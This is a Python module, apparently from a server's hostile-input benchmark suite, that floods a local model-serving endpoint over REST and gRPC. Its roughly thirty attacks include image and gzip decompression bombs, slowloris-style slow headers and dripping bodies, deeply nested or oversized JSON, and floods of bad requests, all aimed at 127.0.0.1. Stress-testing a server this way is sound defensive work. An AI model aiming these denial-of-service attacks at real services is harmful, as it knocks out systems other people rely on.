"""The attacks, one process each.

    python -m benchmarks.hostile.attackers NAME REST_PORT GRPC_PORT SECONDS

Prints the processor seconds that the attack itself took.
"""

from __future__ import annotations

import base64
import contextlib
import gzip
import http.client
import json
import socket
import sys
import threading
import time
from functools import partial
from typing import TYPE_CHECKING, Any

from benchmarks.hostile import content
from benchmarks.hostile.http2 import SlowCall

if TYPE_CHECKING:
    from collections.abc import Callable

PREDICT = "/tensorflow.serving.PredictionService/Predict"
CLASSIFY = "/tensorflow.serving.PredictionService/Classify"
_HEAD = b"POST /v1/models/numbers:predict HTTP/1.1\r\n"
_MIB = 2**20


class Target:
    """The ports that are attacked, and for how long."""

    def __init__(self, rest: int, grpc: int, seconds: float) -> None:
        self.rest, self.grpc, self.seconds = rest, grpc, seconds

    def post(self, model: str, body: bytes, encoding: str = "identity", verb: str = "predict") -> int:
        """Posts a body; the status, 0 where the connection broke."""
        connection = http.client.HTTPConnection("127.0.0.1", self.rest, timeout=60)
        with contextlib.suppress(OSError, http.client.HTTPException), contextlib.closing(connection):
            connection.request("POST", f"/v1/models/{model}:{verb}", body, {"Content-Encoding": encoding})
            answer = connection.getresponse()
            answer.read()
            return answer.status
        return 0

    def send(self, data: bytes) -> None:
        """Sends bytes on a connection of their own, and reads what comes until its end."""
        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", self.rest), timeout=60) as opened:
            opened.sendall(data)
            while opened.recv(1 << 16):
                pass

    def flood(self, action: Callable[[], Any], threads: int = 8) -> None:
        """Repeats an action in threads."""
        end = time.monotonic() + self.seconds

        def repeat() -> None:
            while time.monotonic() < end:
                action()

        started = [threading.Thread(target=repeat, daemon=True) for _ in range(threads)]
        for thread in started:
            thread.start()
        for thread in started:
            thread.join(self.seconds + 70)

    def posts(self, model: str, body: bytes, threads: int = 8, encoding: str = "identity") -> None:
        """Posts the same body again and again."""
        self.flood(lambda: self.post(model, body, encoding), threads)

    def hold(self, count: int, first: bytes, drip: bytes = b"") -> None:
        """Opens connections that send little, and stay."""
        opened = []
        for _ in range(count):
            with contextlib.suppress(OSError):
                opened.append(socket.create_connection(("127.0.0.1", self.rest), timeout=5))
                opened[-1].sendall(first)
        end = time.monotonic() + self.seconds
        while time.monotonic() < end:
            for connection in opened if drip else ():
                with contextlib.suppress(OSError):
                    connection.sendall(drip)
            time.sleep(0.5)
        for connection in opened:
            connection.close()

    def call(self, method: str, message: bytes, threads: int = 2) -> None:
        """Sends the same message over gRPC again and again."""
        import grpc

        with grpc.insecure_channel(f"127.0.0.1:{self.grpc}", [("grpc.max_send_message_length", -1)]) as channel:
            send = channel.unary_unary(method)

            def ask() -> None:
                with contextlib.suppress(grpc.RpcError):
                    send(message, timeout=60)

            self.flood(ask, threads)


def row(encoded: bytes) -> bytes:
    """A body with one encoded image or recording."""
    return json.dumps({"instances": [{"b64": base64.b64encode(encoded).decode()}]}).encode()


def send_quick_then_slow(target: Target) -> None:
    """Teaches the server that images are quick, and then sends large ones."""
    small, large = row(content.png(8)), row(content.png(5000))
    for _ in range(200):
        target.post("images", small)
    target.posts("images", large, 2)


def drip_messages(target: Target) -> None:
    """Sends most of many large messages over gRPC, and never their ends."""
    calls = [SlowCall(target.grpc, PREDICT, 100 * _MIB) for _ in range(24)]
    end = time.monotonic() + target.seconds

    def send(call: SlowCall) -> None:
        while time.monotonic() < end and not call.refused and call.sent < 90 * _MIB:
            call.send(_MIB)
        time.sleep(max(0.0, end - time.monotonic()))

    threads = [threading.Thread(target=send, args=(call,), daemon=True) for call in calls]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(target.seconds + 30)
    for call in calls:
        call.close()


def send_packed(target: Target, size: int) -> None:
    """Sends a message over gRPC that unpacks to so many bytes, on 16 connections again and again."""
    message = gzip.compress(content.zeros_message(size), 1)

    def send() -> None:
        with (
            contextlib.suppress(OSError),
            contextlib.closing(SlowCall(target.grpc, PREDICT, len(message), "gzip")) as call,
        ):
            call.send(message)
            call.wait(60)

    target.flood(send, 16)


def _json(part: bytes, size: int = 6_000_000, last: bytes = b"") -> bytes:
    """A body of equal rows."""
    return b'{"instances": [' + part * (size // len(part)) + (last or part.rstrip(b",")) + b"]}"


def _deep() -> bytes:
    return b'{"instances": ' + b"[" * 3_000_000 + b"]" * 3_000_000 + b"}"


ATTACKS: dict[str, Callable[[Target], Any]] = {
    "JPEG XL, 11 bytes": lambda target: target.posts("images", row(content.JXL)),
    "JPEG XL, slow": lambda target: target.posts("images", row(content.JXL_SLOW)),
    "WebP bomb": lambda target: target.posts("images", row(content.WEBP)),
    "PNG bomb": lambda target: target.posts("images", row(content.png(9900)), 6),
    "GIF bomb": lambda target: target.posts("images", row(content.gif(40_000))),
    "BMP bomb": lambda target: target.posts("images", row(content.bmp(40_000))),
    "JPEG bomb": lambda target: target.posts("images", row(content.jpeg(20_000)), 4),
    "WAV bomb": lambda target: target.posts("recordings", row(content.wav(100, 2**31 - 2)), 4),
    "gzip, three of 56 KB": lambda target: target.posts("numbers", content.packed(b"[],", 57_000_000), 3, "gzip"),
    "unknown models": lambda target: target.posts("unknown", b'{"instances": [1.0]}'),
    "unknown pages": lambda target: target.flood(lambda: target.send(b"GET /x HTTP/1.0\r\n\r\n")),
    "broken heads": lambda target: target.flood(lambda: target.send(b"POST\r\n\r\n")),
    "announced lengths": lambda target: target.hold(200, _HEAD + b"Content-Length: 100000000\r\n\r\n{"),
    "bodies that drip": lambda target: target.hold(100, _HEAD + b"Content-Length: 120000000\r\n\r\n", bytes(1 << 18)),
    "slow heads": lambda target: target.hold(300, _HEAD, b"X: y\r\n"),
    "idle connections": lambda target: target.hold(1500, b""),
    "quick, then slow": send_quick_then_slow,
    "JSON with twin keys, 6 MB": lambda target: target.posts("numbers", _json(b'{"x": 1, "x": 2},'), 2),
    "JSON of objects, 6 MB": lambda target: target.posts("numbers", _json(b'{"x": 1},'), 2),
    "JSON with NaN, 6 MB": lambda target: target.posts("numbers", _json(b"1.5,", last=b"NaN"), 2),
    "JSON of texts, 6 MB": lambda target: target.posts("texts", _json(b'"a",'), 2),
    "deep JSON, 6 MB": lambda target: target.posts("numbers", _deep(), 2),
    "JSON of lists, 500 KB": lambda target: target.posts("numbers", _json(b"[1],", 500_000), 2),
    "gRPC, texts, 6 MB": lambda target: target.call(PREDICT, content.texts_message(2_000_000)),
    "gRPC, Examples, 6 MB": lambda target: target.call(CLASSIFY, content.examples_message(2_000_000)),
    "gRPC, unknown models": lambda target: target.call(PREDICT, b"\x0a\x03\x0a\x01x", 8),
    "gRPC, unknown methods": lambda target: target.call("/x/Y", b"", 8),
    "gRPC, messages that drip": drip_messages,
    "gRPC, gzip of 120 MB": lambda target: send_packed(target, 120 * _MIB),
    "gRPC, gzip of 1 GB": lambda target: send_packed(target, 1024 * _MIB),
}


def main() -> None:
    """Attacks."""
    name, rest, grpc, seconds = sys.argv[1:]
    attack = partial(ATTACKS[name], Target(int(rest), int(grpc), float(seconds)))
    attack()
    print(time.process_time())


if __name__ == "__main__":
    main()
